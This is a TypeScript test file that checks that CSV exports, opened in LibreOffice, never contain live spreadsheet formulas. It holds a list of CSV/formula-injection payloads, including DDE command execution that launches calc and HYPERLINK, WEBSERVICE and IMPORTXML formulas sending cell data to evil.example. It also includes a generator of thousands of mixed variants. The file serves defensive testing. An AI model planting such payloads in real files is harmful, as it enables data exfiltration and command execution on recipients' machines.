import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { caseColumns } from '../../packages/elements/src/export/case-columns.ts';
import { csvLine } from '../../packages/elements/src/export/csv-line.ts';
import { exportPieces } from '../../packages/elements/src/export/export-pieces.ts';
import { sampleNow } from '../../packages/elements/src/samples/sample-now.ts';
import { sampleRecord } from '../../packages/elements/src/samples/sample-record.ts';
import { enAll } from '../../packages/elements/src/words/en-all.ts';
import { Office, type OfficeCell } from './office.ts';

const separators = [',', ';', '\t'] as const;

/** Texts that somebody might send to a seller so that the seller's spreadsheet does something. */
const hostile = [
  '=1+1', '+1+1', '-1+1', '@SUM(1,2)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '"=1+1', '""=1+1', '\u200b=1+1', '\ufeff=1+1', '\u202e=1+1', '＝1+1', '＋1', '－1+1', '＠SUM(1)',
  `=cmd|' /C calc'!A0`, '=HYPERLINK("http://evil.example/?"&A1,"Click")', '=WEBSERVICE("http://evil.example")', '=DDE("soffice","x","y")', '=IMPORTXML("http://evil.example","//a")',
  'a;=1+SUM(1)', 'a;"=1+SUM(1)', 'a\t=1+SUM(1)', 'a\n=1+SUM(1)', 'a\n\n=1+SUM(1);=2+SUM(1)', '";=1+SUM(1);"', `x";=cmd|' /C calc'!A0;"`, `"\n"=1+SUM(1)"\n"`, 'a;\u200b=SUM(1)', `a;  =cmd|' /C calc'!A0`,
];
/** Texts that mean no harm, and are to be read as they were written. */
const honest = ['Hello, is it there?', 'say "hi"', 'Items:\n- red\n- blue', 'a; b, c\td', 'مرحبا بالعالم', '你好，世界', 'สวัสดี', '😀👩‍👩‍👧', '', ' two  spaces ', "it's", "'quoted'", '1 + 1 = 2', 'MY-1', '100 %-ig'];
const ids = ['007', '1234567890123456789', '1E5', '1/2', '2026-11-21', '12:30', '1.50'];

const csvOf = (texts: readonly string[]) => texts.map((text, i) => csvLine([i, text, 'end'])).join('');
const formulas = (rows: readonly (readonly OfficeCell[])[]) => rows.flat().filter(({ formula }) => formula !== '').map(({ formula }) => formula);

describe('exported files in LibreOffice', () => {
  let office: Office;
  before(() => {
    office = new Office();
  });
  after(() => office?.end());

  test('CENTRE-3.12 the check sees formulas: written without guard, these texts are some', () => {
    const bare = hostile.map((text, i) => `${i},"${text.replaceAll('"', '""')}",end\r\n`).join('');
    for (const separator of separators) assert.ok(formulas(office.read(bare, separator)).length >= 3, `by ${JSON.stringify(separator)}`);
  });

  for (const separator of separators) {
    test(`CENTRE-3.12 none of them, and none of 3,000 made of their parts, is one in an exported file that is read by ${JSON.stringify(separator)}`, () => {
      const parts = ['=', '+', '-', '@', '＝', '"', '""', "'", ';', '\t', '\n', '\r', ',', ' ', '\u200b', '\u202e', '1+1', 'SUM(1)', `cmd|' /C calc'!A0`, 'a', '|', '(', '!'];
      const rest = remainders(11);
      const made = Array.from({ length: 3_000 }, () => Array.from({ length: 1 + rest(8) }, () => parts[rest(parts.length)] ?? '').join(''));
      assert.deepEqual(formulas(office.read(csvOf([...hostile, ...made]), separator)), []);
    });
  }

  test('CENTRE-3.13 each text is in its own cell as it was written, and what is behind it is in the next one', () => {
    const rows = office.read(csvOf(honest), ',');
    assert.deepEqual(rows.slice(0, honest.length).map((row) => row.slice(0, 3).map(({ text }) => text)), honest.map((text, i) => [String(i), text, 'end']));
    assert.deepEqual(new Set(rows.slice(0, honest.length).map(([number]) => number?.type)), new Set(['float']));
  });

  test('CENTRE-3.13 a number among texts keeps its digits, with the apostrophe that says that it is a text', () => {
    const rows = office.read(csvOf(ids), ',');
    assert.deepEqual(rows.slice(0, ids.length).map((row) => [row[1]?.text, row[1]?.type]), ids.map((id) => [`'${id}`, 'string']));
  });

  test('CENTRE-3.13 numbers are numbers, instants are dates', () => {
    const [row = []] = office.read(csvLine([-5, 1.5, { at: sampleNow }, null, 'end']), ',');
    assert.deepEqual(row.slice(0, 5).map(({ type }) => type), ['float', 'float', 'date', '', 'string']);
  });

  test('CENTRE-3.13 a failure history opens with its head and a row for each message', () => {
    const columns = caseColumns(enAll, 'csv', new Map());
    const csv = exportPieces({ format: 'csv', what: 'failure-history', at: sampleNow, rows: sampleRecord.cases, columns }).map((piece) => piece()).join('');
    const rows = office.read(csv, ',').filter((row) => row.some(({ text }) => text !== ''));
    assert.equal(rows.length, sampleRecord.cases.length + 1);
    assert.deepEqual(rows[0]?.slice(0, columns.length).map(({ text }) => text), columns.map(({ name }) => name));
    const [first = []] = rows.slice(1);
    assert.deepEqual(first.slice(0, columns.length).map(({ type }) => type), ['date', 'date', 'string', '', '', 'string', 'string', 'string', 'float', 'string', 'float', 'string', 'string', 'date', 'string', 'string']);
  });
});

/** Numbers below a limit, the same ones on each run. */
function remainders(seed: number): (limit: number) => number {
  let state = seed;
  return (limit) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * limit);
  };
}
